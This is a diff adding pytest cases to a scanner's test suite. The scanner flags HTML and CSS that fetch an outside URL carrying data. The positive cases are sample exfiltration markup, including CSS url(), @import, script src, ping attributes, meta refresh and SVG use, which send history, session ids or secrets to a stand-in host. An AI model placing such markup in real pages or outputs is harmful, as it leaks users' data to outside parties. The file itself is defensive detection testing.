@@ -1348,3 +1348,36 @@ def test_character_codes_are_decoded(encoded: str) -> None:
 )
 def test_ordinary_codes_and_double_encodings_are_not_flagged(text: str) -> None:
     assert SCAN.scan(text) == ()
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "<p style=\"background:url('https://x.example.net/a.gif?h={history}')\">hi</p>",
+        "<style>@import url(https://x.example.net/s.css?session=abc123);</style>",
+        "<style>p{background:url(\"//x.example.net/b.png?d=NOTES\")}</style>",
+        '<script src="https://x.example.net/x.js?u=alice&c=chat"></script>',
+        '<a href="/home" ping="https://x.example.net/t?who=alice">home</a>',
+        '<meta http-equiv="refresh" content="5; url=https://x.example.net/?d=secret">',
+        '<td background="https://x.example.net/c.png?d=secret">cell</td>',
+        '<svg><use xlink:href="https://x.example.net/s.svg?d=1#a"/></svg>',
+    ],
+)
+def test_html_and_css_that_fetch_a_url_with_data_are_flagged(text: str) -> None:
+    assert "exfiltration_link" in SCAN.scan(text)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        '<div style="background: url(https://fonts.example.org/bg.png)"></div>',
+        '<script src="https://cdn.jsdelivr.net/npm/vue@3/dist/vue.global.js"></script>',
+        '<a href="https://example.com/docs?page=2">docs</a>',
+        '<meta http-equiv="refresh" content="30">',
+        "CSS: background: url(data:image/png;base64,iVBORw0KGgo=); url(\"bg.png\")",
+        '<svg><use href="#icon-star"/></svg> <style>@import url("theme.css");</style>',
+        "The ping attribute of <a> sends a POST when the link is followed.",
+    ],
+)
+def test_ordinary_html_and_css_urls_are_not_flagged(text: str) -> None:
+    assert SCAN.scan(text) == ()
